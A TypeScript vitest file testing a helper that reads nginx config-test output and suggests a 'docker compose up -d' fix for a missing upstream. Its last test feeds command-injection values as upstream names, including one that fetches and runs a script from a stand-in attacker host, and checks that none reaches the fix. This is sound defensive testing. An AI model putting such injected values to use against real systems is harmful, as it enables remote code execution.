import { describe, expect, test } from "vitest";
import { dumpOf } from "../../../src/companion/nginx/config-test.ts";
import type { ServerStart } from "../../../src/companion/nginx/server-start.ts";

const known = { program: "nginx", flags: ["-g", "daemon off;"] };
const unknown = { program: undefined, flags: [] };
const said = (exitCode: number, stderr: string, start: ServerStart = known) =>
  dumpOf({ exitCode, stderr: Buffer.from(stderr) }, Buffer.from("events {}"), start);
const noMainFile =
  'nginx version: nginx/1.30.0\nnginx: [emerg] open() "/etc/nginx/nginx.conf" failed (2: No such file or directory)\n';

test.each([
  ["nginx version: nginx/1.30.6", "1.30.6"],
  ["nginx version: openresty/1.27.1.2", "1.27.1.2"],
  ["Angie version: Angie/1.10.0", ""],
  ["Tengine version: Tengine/3.1.0", ""],
])("%s tells what nginx itself would know", (line, version) => {
  expect(said(0, `${line}\n`)?.version).toBe(version);
});

test("a test that no program can make, or not on the file that counts, tells nothing", () => {
  expect(said(127, "")).toBeUndefined();
  expect(said(1, noMainFile, unknown)).toBeUndefined();
  expect(() => said(1, noMainFile)).toThrow("No such file or directory");
});

test("a test that was ended is a failed one, and no fault of the Engine's", () => {
  expect(() => said(137, "")).toThrow("did not end within 60 s");
});

describe("a fix", () => {
  const fixFor = (upstream: string) => {
    try {
      return said(1, `nginx: [emerg] host not found in upstream "${upstream}" in /etc/nginx/conf.d/default.conf:7\n`);
    } catch (error) {
      return (error as { fix?: string }).fix;
    }
  };

  test("names the service that does not run", () => {
    expect(fixFor("api:5001")).toBe("docker compose up -d api");
    expect(fixFor("plugin_daemon")).toBe("docker compose up -d plugin_daemon");
  });

  test.each(["api; curl https://evil.example/x | sh #", "$(id)", "--help", "a\\nb", "a b", "`id`", "x".repeat(200)])(
    "holds nothing of %s",
    (upstream) => expect(fixFor(upstream)).toBe("docker compose up -d"),
  );
});
